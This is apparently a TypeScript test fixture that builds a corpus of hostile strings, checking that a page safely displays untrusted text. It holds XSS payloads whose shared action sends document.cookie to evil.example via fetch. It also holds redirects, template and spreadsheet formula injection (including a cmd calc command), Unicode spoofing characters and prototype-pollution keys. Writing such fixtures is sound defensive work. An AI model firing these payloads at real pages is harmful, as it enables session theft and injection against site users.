/** What a page does if any of the corpus runs in it: it leaves this mark. */
export const mark = '__wasHere';

const act = `globalThis.${mark}=1;fetch('https://evil.example/'+document.cookie)`;

/** Texts that somebody might write to take over, spy through, or break a page that shows them. */
export const hostileTexts: Record<string, string> = {
  script: `<script>${act}</script><script src="https://evil.example/x.js"></script>`,
  closing: `</textarea></title></script></style>--><script>${act}</script>`,
  handler: `<img src=x onerror="${act}"><svg onload="${act}"><body onpageshow="${act}">`,
  attribute: `" onmouseover="${act}" autofocus onfocus="${act}" x="`,
  quote: `' onclick='${act}' style='position:fixed;inset:0`,
  frame: `<iframe srcdoc="<script>parent.${mark}=1</script>"></iframe><object data="https://evil.example/"></object>`,
  link: `javascript:${act}`,
  obscured: `java\u0000script\t:${act}`,
  data: `data:text/html,<script>parent.${mark}=1</script>`,
  svg: `data:image/svg+xml;base64,${btoa(`<svg xmlns="http://www.w3.org/2000/svg" onload="${act}"/>`)}`,
  falsePng: `data:image/png;base64,${btoa('<svg xmlns="http://www.w3.org/2000/svg"/>'.padEnd(48))}`,
  picture: 'https://evil.example/pixel.png',
  markdown: `[click](javascript:${act}) ![x](https://evil.example/pixel.png)`,
  style: '</style><style>*{display:none}@import "https://evil.example/x.css";</style>',
  meta: '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is no template here, and should be none elsewhere.
  template: "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 7*7 %>",
  formula: '=HYPERLINK("https://evil.example/","x")',
  command: "@SUM(1+1)*cmd|' /C calc'!A0",
  long: 'w'.repeat(5000),
  longLine: 'wide '.repeat(3000),
  manyLines: 'line\n'.repeat(3000),
  stacked: `Z${'\u0334\u0301\u0489'.repeat(300)}algo`,
  reversed: 'photo\u202egpj.exe\u2066\u2067 turned around',
  unseen: 'nothing\u200b\u2060\ufeff\u00ad\u0007\u001b[2J\u0085here',
  tags: 'flag \u{e0041}\u{e0042}\u{e007f} hidden',
  lines: 'one\u2028two\u2029three\rfour',
  emoji: '👩‍👩‍👧‍👦'.repeat(200),
  // Longer than what may be a file's name.
  vtt: `WEBVTT <script>${act}</script>\n\n<b onclick="${act}">\n00:00.000 --> 00:01.000 line:"><script>\n<img src=x onerror="${act}">\u202e${'wide'.repeat(100)}`,
  empty: '',
  blank: '   \n\t ',
};

/** Keys that objects have without being given them. */
const inheritedKeys = [
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'then',
  'toJSON',
  'length',
  'key',
  'ref',
];

/** A list in a list in a list. */
export function nested(depth: number): unknown {
  let value: unknown = 'the bottom';
  for (let level = 0; level < depth; level++) value = level % 2 === 0 ? [value] : { deeper: value };
  return value;
}

/** An answer with all of it: as values, as keys, as keys that objects inherit, very deep and very many. It is JSON, since some keys have no literal. */
export function hostileAnswer(): string {
  const values = JSON.stringify(hostileTexts).slice(1, -1);
  const keys = Object.values(hostileTexts).map((text, at) => `${JSON.stringify(text.slice(0, 300))}:${at}`);
  const inherited = inheritedKeys.map(
    (key) => `${JSON.stringify(key)}:{"constructor":{"prototype":{"polluted":true}},"x":"${key}"}`,
  );
  const deep = `"deep":${JSON.stringify(nested(90))},"many":${JSON.stringify(Array.from({ length: 3000 }, (_, n) => n))}`;
  return `{${[values, `"keys":{${keys.join()}}`, `"inherited":{${inherited.join()}}`, inherited.join(), deep].join()}}`;
}
